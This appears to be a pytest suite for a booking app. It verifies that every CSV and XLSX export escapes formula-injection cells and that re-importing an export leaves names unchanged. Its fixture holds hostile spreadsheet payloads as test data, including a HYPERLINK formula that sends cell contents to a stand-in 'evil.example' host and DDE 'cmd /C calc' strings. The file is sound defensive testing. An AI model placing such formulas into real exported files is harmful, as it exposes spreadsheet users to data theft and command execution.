"""Formula injection: every CSV and XLSX the app writes neutralises text cells that start with
= + - @ (or tab / CR), wherever the text came from (names, kana, units, venues, titles, free text).

test_every_file_route_is_covered fails when a new .csv/.xlsx route appears that is not listed here.
"""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from booking.extensions import db
from booking.models import Campaign, SentReport, Staff, Unit, Venue
from tests.office.conftest import sign_in

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
EVIL = {
    "family_name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "given_name": "+1+cmd|' /C calc'!A0",
    "family_name_kana": "-2+3",
    "given_name_kana": "@SUM(1+1)*cmd|' /C calc'!A0",
    "crew": "=1+1",
    "email": "@evil.example",
    "phone": "+81-90-0000-0000",
}


@pytest.fixture
def evil(app, sec):
    with app.app_context():
        staff = db.session.get(Staff, sec.ids["staff_a"])
        for name, value in EVIL.items():
            setattr(staff, name, value)
        db.session.get(Unit, sec.ids["A"]).name = "=cmd|' /C calc'!A0"
        db.session.get(Venue, sec.ids["venue"]).name = "-venue+1"
        db.session.get(Campaign, sec.ids["campaign"]).title = "@campaign"
        db.session.commit()
    return sec


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(data: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def _assert_safe(response, kind: str, *, expect_evil: bool = True) -> None:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    data = response.get_data()
    cells = _csv_cells(data) if kind == "csv" else _xlsx_cells(data)
    bad = [c for c in cells if isinstance(c, str) and c.startswith(DANGEROUS) and not _is_number(c)]
    assert bad == []
    if expect_evil:
        assert any(isinstance(c, str) and c.startswith("'") and c[1:2] in "=+-@" for c in cells), cells[:40]


FILES = [
    # (endpoint, url template, kind, signed-in role or "api", evil text expected in it)
    ("api.session_roster_csv", "/api/v1/sessions/{session}/roster.csv", "csv", "api", True),
    ("api.status_csv", "/api/v1/reports/status.csv", "csv", "api", True),
    ("chiefs.session_roster", "/chiefs/sessions/{session}/roster?format=csv", "csv", "admin", True),
    ("chiefs.session_roster", "/chiefs/sessions/{session}/roster?format=xlsx", "xlsx", "admin", True),
    ("chiefs.day_roster", "/chiefs/venues/{venue}/{day}/roster?format=csv", "csv", "chief_a", True),
    ("chiefs.day_roster", "/chiefs/venues/{venue}/{day}/roster?format=xlsx", "xlsx", "chief_a", True),
    ("reports.status_file", "/reports/status.csv", "csv", "admin", True),
    # Unit names under HQ are indented with a full-width space there, which already disarms them.
    ("reports.status_file", "/reports/status.xlsx", "xlsx", "admin", False),
    ("reports.upward", "/reports/upward?format=csv&department=%3Dcmd%7C%27+%2FC+calc%27%21A0", "csv", "admin", True),
    ("reports.upward", "/reports/upward?format=xlsx&department=%3Dcmd%7C%27+%2FC+calc%27%21A0", "xlsx", "admin", True),
    # A version recorded as sent, downloaded as kept (the department name typed when it was sent).
    ("reports.sent_upward_file", "/reports/upward/sent/{sent}.xlsx", "xlsx", "admin", True),
    ("office.export_staff", "/office/staff/export.csv", "csv", "admin", True),
    # Counts and the section's own reason labels only: nothing anybody typed.
    ("reports.delivery_csv", "/reports/delivery.csv", "csv", "admin", False),
    ("office.import_template", "/office/staff/import/template.csv", "csv", "admin", False),
    ("office.import_template", "/office/staff/import/template.xlsx", "xlsx", "admin", False),
]


@pytest.mark.parametrize("endpoint,template,kind,role,expect_evil", FILES,
                         ids=[f"{t.split('?')[0]}:{k}" for _e, t, k, _r, _x in FILES])
def test_every_file_the_app_writes_neutralises_formula_cells(app, client, evil, endpoint, template, kind, role,
                                                             expect_evil):
    sent = ""
    if endpoint == "reports.sent_upward_file":
        sign_in(client, "admin")
        today = evil.office.today.isoformat()
        assert client.post("/reports/upward/sent", data={"as_of": today, "department": "=cmd|' /C calc'!A0"}
                           ).status_code == 302
        with app.app_context():
            sent = str(db.session.scalar(select(func.max(SentReport.id))))
    url = template.format(session=evil.ids["session"], venue=evil.ids["venue"],
                          day=evil.office.session_day.isoformat(), sent=sent)
    if role == "api":
        response = client.get(url, headers=evil.headers("admin"))
    else:
        sign_in(client, role)
        response = client.get(url)
    _assert_safe(response, kind, expect_evil=expect_evil)


def test_every_file_route_is_covered(app):
    """Routes that write files: .csv/.xlsx in the path, or a format/fmt/kind choice."""
    covered = {endpoint for endpoint, *_rest in FILES}
    writers = set()
    for rule in app.url_map.iter_rules():
        if any(ext in rule.rule for ext in (".csv", ".xlsx", ".<fmt>", ".<kind>")):
            writers.add(rule.endpoint)
    # Pages that answer ?format=csv|xlsx (found by reading the views: grep "format", "csv").
    writers |= {"chiefs.session_roster", "chiefs.day_roster", "reports.upward"}
    assert writers - covered == set()


def test_the_staff_import_reads_back_an_exported_file_unchanged(app, client, evil):
    """The apostrophe is for the spreadsheet: re-importing the export does not change the names."""
    sign_in(client, "admin")
    exported = client.get("/office/staff/export.csv").get_data()
    response = client.post("/office/staff/import", data={"file": (io.BytesIO(exported), "staff.csv")},
                           content_type="multipart/form-data", follow_redirects=True)
    page = response.get_data(as_text=True)
    assert response.status_code in (200, 422)
    with app.app_context():
        staff = db.session.get(Staff, evil.ids["staff_a"])
        assert staff.family_name == EVIL["family_name"]
    assert "Traceback" not in page
